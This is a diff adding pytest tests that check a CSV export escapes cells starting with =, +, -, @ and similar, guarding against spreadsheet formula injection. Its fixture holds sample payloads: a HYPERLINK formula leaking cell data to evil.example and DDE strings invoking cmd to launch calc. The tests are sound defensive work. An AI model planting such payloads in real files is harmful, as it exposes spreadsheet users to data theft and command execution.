@@ -148,3 +148,65 @@ def test_exporting_from_a_missing_database_is_one_line(tmp_path):
     bad = subprocess.run([sys.executable, "-m", "server.cli", "export", "orders"],
                          capture_output=True, text=True, env=env, timeout=60)
     assert bad.returncode == 2 and "invalid choice" in bad.stderr
+
+
+FORMULAS = {
+    "product_lines": "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\");-2+3;@SUM(A1);ok",
+    "contact_name": "=cmd|' /C calc'!A0",
+    "contact_title": "+1+cmd|' /C calc'!A0",
+    "contact_phone": "-2+3",
+    "contact_email": "@a.example",
+}
+
+
+def _formula_customer(engine) -> dict:
+    columns = ["name", *FORMULAS]
+    out = io.StringIO()
+    writer = csv.writer(out, lineterminator="\r\n")
+    writer.writerow(columns)
+    writer.writerow(["Formula Trading", *FORMULAS.values()])
+    assert import_customers(engine, out.getvalue(), skip_bad=False)[0] == 1
+    (customer,) = rows_for(engine, "customers")
+    return customer
+
+
+def test_no_customer_cell_starts_like_a_formula_joined_lists_and_contacts_included(engine):
+    customer = _formula_customer(engine)
+    assert customer["product_lines"][0].startswith("=HYPERLINK")
+    assert customer["contacts"][0]["name"] == FORMULAS["contact_name"]
+    text = to_csv("customers", rows_for(engine, "customers"))
+    (row,) = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"), newline="")))
+    for column, cell in row.items():
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
+    assert row["product_lines"].split(";") == [
+        "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")", "'-2+3", "'@SUM(A1)", "ok"]
+    assert row["contacts"] == ("'=cmd|' /C calc'!A0, '+1+cmd|' /C calc'!A0, '-2+3, "
+                               "'@a.example")
+    assert row["contact_name"] == "'" + FORMULAS["contact_name"]
+
+
+def test_every_cell_of_every_export_is_checked_the_same_way(engine):
+    customer = _formula_customer(engine)
+    visit = {"id": "v1", "customer_id": customer["id"], "outcome": "=1+1", "notes": "@x",
+             "tags": ["-x", "y"], "extra": {"k": "v"}, "amount": -3.5}
+    (row,) = list(csv.DictReader(io.StringIO(to_csv("visits", [visit]).lstrip("\ufeff"),
+                                             newline="")))
+    assert row["outcome"] == "'=1+1" and row["notes"] == "'@x" and row["tags"] == "'-x;y"
+    assert to_csv("visits", [{"tags": ["y", "=x"]}]).split("\r\n")[1] == "y;'=x", (
+        "an item is escaped where a split into columns would start a cell")
+    assert row["amount"] == "-3.5", "a plain number stays a number"
+
+
+@pytest.mark.parametrize("text", ["-inf", "-nan", "-1_000", "+Infinity"])
+def test_what_python_takes_as_a_number_but_a_spreadsheet_would_run_is_escaped(text):
+    assert safe_text(text) == "'" + text
+
+
+def test_an_exported_file_with_formula_cells_imports_back_unchanged(engine):
+    before = _formula_customer(engine)
+    text = to_csv("customers", rows_for(engine, "customers"))
+    assert import_customers(engine, text, skip_bad=False) == (0, 1, [])
+    (after,) = rows_for(engine, "customers")
+    assert after["product_lines"] == before["product_lines"]
+    assert after["contacts"] == before["contacts"]
+    assert after["name"] == before["name"]
